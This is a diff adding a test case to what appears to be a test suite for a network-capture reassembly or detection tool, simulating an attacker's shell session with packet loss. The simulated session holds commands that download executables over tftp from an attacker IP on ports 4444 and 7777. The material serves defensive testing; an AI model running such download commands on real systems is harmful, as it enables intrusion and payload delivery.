@@ -799,6 +799,34 @@ def case_shell_stager_long():
     return cap
 
 
+def lost_in_line(sh, before, lost, after):
+    """The attacker sends before, then lost (never captured), then after; the
+    victim ACKs all of it: the line it read is not one the capture holds."""
+    sh.data("a", before)
+    sh.seq["a"] += len(lost)
+    sh.data("a", after)
+
+
+def case_capture_loss():
+    """Capture loss inside typed lines: a segment the victim ACKed was never
+    captured. The line it cut is dropped, not guessed (the victim ran GET
+    evilx.exe, not x.exe); the next lines run. On 4444 (followed from the
+    start) and on 7777, where the hole falls while the flow is still screened."""
+    cap = Capture()
+    sh = Shell(cap, aport=1201, vport=4444)
+    sh.open()
+    sh.victim_says(BANNER + PROMPT)
+    lost_in_line(sh, "tftp -i 81.132.114.254 GET ", "evil", "x.exe\n")
+    sh.type("tftp -i 81.132.114.254 GET ok.exe", [("get", "ok.exe", ATTACKER)])
+    sh.close()
+    sh = Shell(cap, aport=1202, vport=7777, t=sh.t + 1)
+    sh.open()
+    lost_in_line(sh, "tftp -i 81.132.114.254 GET ", "evil", "y.exe\n")
+    sh.type("tftp -i 81.132.114.254 GET ok2.exe", [("get", "ok2.exe", ATTACKER)])
+    sh.close()
+    return cap
+
+
 # ---------------------------------------------- evasions (issue 13), each resolved as
 # the Windows victim resolves it: reassembly/README.md gives every rule and its source
 
@@ -1023,6 +1051,7 @@ CASES = {
     "shell-long-line": case_shell_long_line,
     "shell-stager": case_shell_stager,
     "shell-stager-long": case_shell_stager_long,
+    "capture-loss": case_capture_loss,
     "evasion-forged-syn": case_forged_syn,
     "evasion-tcp-checksum": insertion({"chksum": 0xdead}),
     "evasion-ip-checksum": insertion({"ipchksum": 0xdead}),
